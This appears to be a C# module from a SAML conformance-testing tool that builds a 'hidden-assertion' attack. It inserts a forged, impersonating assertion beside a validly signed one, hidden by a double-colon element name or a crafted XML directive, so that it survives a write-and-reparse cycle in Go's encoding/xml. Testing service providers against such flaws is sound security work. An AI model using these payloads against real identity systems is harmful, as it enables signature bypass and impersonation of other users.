using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A forged assertion that a tokenizer passes over, and that stands there once the message was written and parsed again.</summary>
internal sealed class HiddenAssertion(TamperingArguments arguments) : Tampering
{
    private const string Place = "hidden-assertion-stands-here";

    private string _shown = string.Empty;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "hidden-assertion",
            "Hides a forged assertion beside the signed one: by colons in its name, or in a directive. Go's encoding/xml passes over it, "
            + "and writes it so that it is read the second time.",
            "The IdP's signature verifies over the genuine assertion, the only one that is seen; written and read once more, the message holds the forged one too.",
            [
                new("behind", "What hides it: two colons before the name, or a directive that ends elsewhere when its comment is gone.", ["colons", "directive"], Required: true),
                new("place", "Where it stands.", ["before", "after"], Required: true),
                Impersonation.Parameter,
            ]),
        arguments => new HiddenAssertion(arguments));

    public override string Name => "hidden-assertion";

    public override void AfterSigning(Workpiece work)
    {
        var genuine = SignedPlaces.Signed(work, "assertion")[0];
        var target = Impersonation.Target(arguments, work.Context);
        var forged = Impersonation.Copy(genuine, target, work);
        _shown = arguments.Required("behind") == "colons" ? WithColons(forged) : InDirective(forged);

        var place = work.Document.CreateProcessingInstruction(Place, string.Empty);
        _ = arguments.Required("place") == "before"
            ? genuine.ParentNode!.InsertBefore(place, genuine)
            : genuine.ParentNode!.InsertAfter(place, genuine);
        work.Claim(new HiddenForged(genuine.GetAttribute("ID"), Impersonation.Values(work.Context, target)));
    }

    public override string OnText(string text, Workpiece work)
    {
        var begin = text.IndexOf($"<?{Place}", StringComparison.Ordinal);
        var end = text.IndexOf("?>", begin, StringComparison.Ordinal) + 2;
        return text[..begin] + _shown + text[end..];
    }

    /// <summary>Without the comment in it, the directive has one of its own, which holds the quote that made the rest a literal.</summary>
    public static string InDirective(XmlElement forged) =>
        $"<! <<!-- -->!-- ' --> >{forged.OuterXml.Replace("'", "&apos;", StringComparison.Ordinal)}' >>";

    // A name of an empty prefix and ":Assertion", which is written without the prefix.
    private static string WithColons(XmlElement forged)
    {
        var text = forged.OuterXml;
        var declaration = forged.Prefix.Length == 0 ? string.Empty : $" xmlns=\"{SamlNamespaces.Assertion}\"";
        return $"<::Assertion{declaration}{text[(forged.Name.Length + 1)..^(forged.Name.Length + 3)]}</::Assertion>";
    }
}
